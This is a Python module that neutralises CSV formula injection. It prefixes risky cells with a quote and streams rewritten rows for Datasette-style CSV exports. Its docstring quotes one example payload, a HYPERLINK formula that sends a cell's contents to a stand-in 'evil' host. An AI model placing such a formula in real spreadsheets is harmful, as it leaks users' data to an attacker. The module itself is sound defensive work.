"""CSV cells a spreadsheet will not run as formulas.

A model name is whatever a page says, so a hostile page can name a model
``=HYPERLINK("http://evil/?"&A1, "click")``; opened in Excel or LibreOffice, a CSV export would
run it. OWASP's advice (CSV injection) is to prefix a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return with a single quote, which spreadsheets show as text. Plain
numbers (``-0.5``, ``+3``) are left alone: they are what a price column holds, and a spreadsheet
reads them as numbers either way.

``safe_cell`` is for CSV we write ourselves; ``CsvFormulaGuard`` rewrites a CSV byte stream as it
is produced (Datasette's ``.csv`` pages stream rows), holding back at most one unfinished row.
"""

from __future__ import annotations

import codecs
import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: object) -> object:
    """The value, or a text a spreadsheet shows as text when it would start a formula."""
    if (isinstance(value, str) and value.startswith(FORMULA_STARTS)
            and not _PLAIN_NUMBER.fullmatch(value)):
        return "'" + value
    return value


class CsvFormulaGuard:
    """Rewrites UTF-8 CSV chunks so that no cell starts a formula.

    Rows may be split anywhere between chunks (even inside a quoted cell or a UTF-8 sequence),
    so only complete rows are rewritten: the text after the last line end outside quotes waits
    for the next chunk. Rows without a dangerous cell come out byte for byte as they went in.
    """

    def __init__(self) -> None:
        self._decoder = codecs.getincrementaldecoder("utf-8")(errors="replace")
        self._pending = ""  # the start of a row whose line end has not come yet

    def feed(self, chunk: bytes) -> bytes:
        self._pending += self._decoder.decode(chunk)
        rows = _rows(self._pending)
        if rows and not rows[-1][1]:  # the last row is not finished: it waits
            self._pending = rows.pop()[0]
        else:
            self._pending = ""
        return _write(rows).encode("utf-8")

    def close(self) -> bytes:
        """Whatever is left (a last row without a line end)."""
        rest = self._pending + self._decoder.decode(b"", final=True)
        self._pending = ""
        return _write(_rows(rest)).encode("utf-8")


def _write(rows: list[tuple[str, str]]) -> str:
    """The rows again, each with a dangerous cell rewritten and every other row as it was."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="")
    for row, ending in rows:
        if row and any(c in row for c in FORMULA_STARTS):
            cells = next(csv.reader([row]))
            guarded = [safe_cell(c) for c in cells]
            if guarded != cells:
                writer.writerow(guarded)
                out.write(ending)
                continue
        out.write(row + ending)
    return out.getvalue()


def _rows(text: str) -> list[tuple[str, str]]:
    """Split CSV text into (row, line ending) at line ends outside quotes."""
    rows: list[tuple[str, str]] = []
    in_quotes = False
    begin = 0
    for i, ch in enumerate(text):
        if ch == '"':
            in_quotes = not in_quotes
        elif ch == "\n" and not in_quotes:
            end = i - 1 if i > begin and text[i - 1] == "\r" else i
            rows.append((text[begin:end], text[end:i + 1]))
            begin = i + 1
    if begin < len(text):
        rows.append((text[begin:], ""))
    return rows
